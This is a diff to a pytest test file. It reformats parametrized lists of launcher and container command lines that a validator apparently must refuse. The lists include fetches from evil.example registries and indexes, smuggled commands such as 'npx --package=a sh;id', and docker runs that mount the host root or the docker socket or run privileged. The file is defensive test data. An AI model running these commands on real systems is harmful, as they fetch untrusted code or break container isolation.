@@ -55,17 +55,16 @@ def test_launchers_are_read_as_they_read_themselves(
         "npx -c id", "npx --call=id", "npx -y --node-options=--require=/x pkg", "npx -n --require=x pkg", "npx",
         "npx --registry=https://evil.example pkg", "npx --userconfig /x pkg", "npx --prefix /x pkg", "npx -yq pkg",
         "npx --script-shell=/x pkg", "npx --ignore-scripts=false pkg", "npx -y git+https://h.example/x.git",
-        "npx -y user/repo", "npx -y github:user/repo", "npx -y https://h.example/x.tgz", "npx -y ./x", "npx -y file:x",
-        "npx -y a@npm:b@1.0.0", "npx -p a -p", "npx --package=a sh;id", "npx -p a ../../bin/sh", "npm install x",
-        "npm
-
-      run x", "npm exec -c id", "npx -y --allow-scripts=x pkg", "npx --workspace=x pkg", "npx --yes=maybe pkg", "uvx --index-url https://evil.example/ x", "uvx --extra-index-url=https://evil.example/ x", "uvx --index=x y",
-        "uvx --default-index x y", "uvx -i x y", "uvx --find-links /x y", "uvx --python /tmp/python x", "uvx",
-        "uvx --from git+https://h.example/x cmd", "uvx --from ./x cmd", "uvx --from x@https://h.example/x.whl cmd",
-        "uvx --with-editable . x", "uvx --with-requirements r.txt x", "uvx --from a --from b cmd", "uvx --env-file
-        .env
-
-  x", "uvx --from a ../cmd", "uv run server.py", "uv run --with x y", "uv pip install x", "pipx install x", "pipx run --index-url=x y", "pipx run --pip-args=-ix y", "pipx run https://h.example/x.py", "pipx run ./x.py",
+        "npx -y user/repo", "npx -y github:user/repo", "npx -y https://h.example/x.tgz", "npx -y ./x",
+        "npx -y file:x", "npx -y a@npm:b@1.0.0", "npx -p a -p", "npx --package=a sh;id", "npx -p a ../../bin/sh",
+        "npm install x", "npm run x", "npm exec -c id", "npx -y --allow-scripts=x pkg", "npx --workspace=x pkg",
+        "npx --yes=maybe pkg", "uvx --index-url https://evil.example/ x",
+        "uvx --extra-index-url=https://evil.example/ x", "uvx --index=x y", "uvx --default-index x y", "uvx -i x y",
+        "uvx --find-links /x y", "uvx --python /tmp/python x", "uvx", "uvx --from git+https://h.example/x cmd",
+        "uvx --from ./x cmd", "uvx --from x@https://h.example/x.whl cmd", "uvx --with-editable . x",
+        "uvx --with-requirements r.txt x", "uvx --from a --from b cmd", "uvx --env-file .env x",
+        "uvx --from a ../cmd", "uv run server.py", "uv run --with x y", "uv pip install x", "pipx install x",
+        "pipx run --index-url=x y", "pipx run --pip-args=-ix y", "pipx run https://h.example/x.py", "pipx run ./x.py",
     ],
 )  # fmt: skip
 def test_options_and_sources_that_are_not_understood_are_refused(line: str) -> None:
@@ -103,8 +102,8 @@ def test_an_option_that_may_hold_a_secret_is_not_quoted() -> None:
     ("line", "kind", "subject"),
     [
         ("/usr/local/bin/server --x", "program", ""), ("python3 -u server.py -c", "script", "server.py"),
-        ("/venv/bin/python3.11 -m server --x", "module", "server"), ("node --no-warnings dist/x.js", "script",
-        "dist/x.js"), ("bash run.sh", "script", "run.sh"),
+        ("/venv/bin/python3.11 -m server --x", "module", "server"),
+        ("node --no-warnings dist/x.js", "script", "dist/x.js"), ("bash run.sh", "script", "run.sh"),
     ],
 )  # fmt: skip
 def test_programs_of_this_disk(line: str, kind: str, subject: str) -> None:
@@ -149,14 +148,13 @@ def test_images_run_by_digest_and_are_never_pulled() -> None:
 @pytest.mark.parametrize(
     "line",
     [
-        "run -i org/server", "run -i org/server:latest", "run --privileged {}", "run --pull=always {}", "run
-        --network
-
- host {}", "run --pid=host {}", "run -v /var/run/docker.sock:/s {}", "run -v /:/host {}", "run -v /a/../..:/x {}", "run --mount type=bind,source=/,target=/x {}", "run --mount type=bind,src=/run/podman/podman.sock,target=/x {}",
-        "run --security-opt seccomp=unconfined {}", "run --net=container:x {}", "run --cap-add ALL {}", "exec x",
-        "run
-
-        -i", "run --device /dev/sda {}", "run -it {}", "run -v", "pull {}", "run --runtime x {}", ],
+        "run -i org/server", "run -i org/server:latest", "run --privileged {}", "run --pull=always {}",
+        "run --network host {}", "run --pid=host {}", "run -v /var/run/docker.sock:/s {}", "run -v /:/host {}",
+        "run -v /a/../..:/x {}", "run --mount type=bind,source=/,target=/x {}",
+        "run --mount type=bind,src=/run/podman/podman.sock,target=/x {}", "run --security-opt seccomp=unconfined {}",
+        "run --net=container:x {}", "run --cap-add ALL {}", "exec x", "run -i", "run --device /dev/sda {}",
+        "run -it {}", "run -v", "pull {}", "run --runtime x {}",
+    ],
 )  # fmt: skip
 @pytest.mark.parametrize("engine", ["docker", "podman"])
 def test_images_without_digest_or_walls_are_refused(engine: str, line: str) -> None:
